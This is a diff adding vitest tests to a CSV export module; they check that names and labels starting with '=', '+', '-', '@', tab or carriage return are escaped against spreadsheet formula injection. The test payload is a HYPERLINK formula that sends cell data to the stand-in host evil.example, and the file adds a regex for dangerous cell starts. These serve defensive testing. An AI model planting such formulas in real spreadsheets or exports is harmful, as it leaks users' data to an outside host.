@@ -1,7 +1,9 @@
 import { describe, expect, it } from "vitest";
-import { BOM, escapeField, matrixRows, sourceNote, toCsv, viewRows } from "../../src/export/csv";
+import { BOM, escapeField, matrixRows, sourceNote, toCsv, viewRows, type Separator } from "../../src/export/csv";
 import { readCsv } from "../csvRead";
-import { classify } from "../../src/domain/classify";
+import { classify, type ColorChoice } from "../../src/domain/classify";
+import type { Dataset } from "../../src/data/schema";
+import type { Lang } from "../../src/i18n/strings";
 import { realDataset } from "./fixtures";
 
 const data = realDataset();
@@ -73,5 +75,86 @@ describe("CSV", () => {
     expect(rows).toHaveLength(22);
     const uppsala = rows.find((r) => r[0] === "SE-C")!;
     expect(uppsala[2]).toBe("Ny strategi antagen 2026");
+  });
+});
+
+/** What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"). */
+const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
+const DANGEROUS_CELL = /^[=+\-@\t\r]/;
+/** A formula that would call out with the sheet's data if it ran; quotes, commas and semicolons test the quoting too. */
+const payload = (start: string, i: number) => `${start}HYPERLINK("https://evil.example/?"&A1;"klicka ${i}, här")`;
+
+/** The committed dataset with every name, label and title a CSV can carry starting like a formula. */
+function hostileDataset(): Dataset {
+  const data = structuredClone(realDataset());
+  const start = (i: number) => FORMULA_STARTS[i % FORMULA_STARTS.length]!;
+  data.regions.forEach((r, i) => (r.name = payload(start(i), i)));
+  data.statuses.forEach((s, i) => Object.assign(s, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
+  data.practices.forEach((p, i) => Object.assign(p, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
+  data.questions.forEach((q, i) => Object.assign(q, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
+  data.edition.title = payload("=", 0);
+  return data;
+}
+
+/** Every CSV the export menu can write (ExportTools): the matrix, and the current view in every colour mode. */
+function everyCsv(data: Dataset, lang: Lang, separator: Separator): { name: string; text: string }[] {
+  const note = sourceNote(data, lang, "uttag 2026-11-27");
+  const listed = data.practices.filter((p) => p.evidence === "listed").map((p) => p.id);
+  const choices: ColorChoice[] = [
+    { color: "status" },
+    { color: "year" },
+    { color: "horizon" },
+    ...data.practices.map((p) => ({ color: "practice" as const, practice: p.id })),
+    { color: "practice", practice: listed[0], practice2: listed[1] },
+    ...data.questions.map((q) => ({ color: "question" as const, q: q.id })),
+  ];
+  const columns = { code: "Kod", region: "Region", value: "Värde" };
+  return [
+    { name: "matrix", text: toCsv(matrixRows(data, lang), separator, note) },
+    ...choices.map((choice) => ({
+      name: `view ${JSON.stringify(choice)}`,
+      text: toCsv(viewRows(data, classify(data, choice, lang), columns), separator, note),
+    })),
+  ];
+}
+
+describe("CSV formula injection", () => {
+  it("writes text that starts like a formula with a leading ' and quoted, and numbers as numbers", () => {
+    for (const start of FORMULA_STARTS) expect(escapeField(`${start}1+1`, ",")).toBe(`"'${start}1+1"`);
+    expect(escapeField('=HYPERLINK("x";"y")', ";")).toBe(`"'=HYPERLINK(""x"";""y"")"`);
+    // A negative number is data: it stays a number a spreadsheet can sum.
+    expect(escapeField(-3, ",")).toBe("-3");
+    expect(escapeField(0, ";")).toBe("0");
+    // Region codes, and text with the characters later on, are left alone.
+    expect(escapeField("SE-AB", ",")).toBe("SE-AB");
+    expect(escapeField("Kod = 1", ",")).toBe("Kod = 1");
+  });
+
+  const data = hostileDataset();
+  for (const lang of ["sv", "en"] as const) {
+    for (const separator of [",", ";"] as const) {
+      it(`no cell of any download starts like a formula (${lang}, ${JSON.stringify(separator)})`, () => {
+        const files = everyCsv(data, lang, separator);
+        expect(files.length).toBe(5 + data.practices.length + data.questions.length);
+        for (const file of files) {
+          const cells = readCsv(file.text, separator).flat();
+          expect(
+            cells.filter((cell) => DANGEROUS_CELL.test(cell)),
+            file.name,
+          ).toEqual([]);
+        }
+      });
+    }
+  }
+
+  it("keeps the hostile names, readable, behind the leading '", () => {
+    const [matrix, status] = everyCsv(data, "sv", ";");
+    const regions = readCsv(matrix!.text, ";").slice(1, 1 + data.regions.length);
+    expect(regions.map((row) => row[1])).toEqual(data.regions.map((r) => `'${r.name}`));
+    const statusRows = readCsv(status!.text, ";");
+    const uppsala = data.regions.find((r) => r.code === "SE-C")!;
+    const label = data.statuses.find((s) => s.id === uppsala.strategy.status)!.sv;
+    expect(statusRows.find((row) => row[0] === "SE-C")).toEqual(["SE-C", `'${uppsala.name}`, `'${label}`]);
+    expect(statusRows.at(-1)![0]).toContain(`${payload("=", 0)}, dnr`);
   });
 });
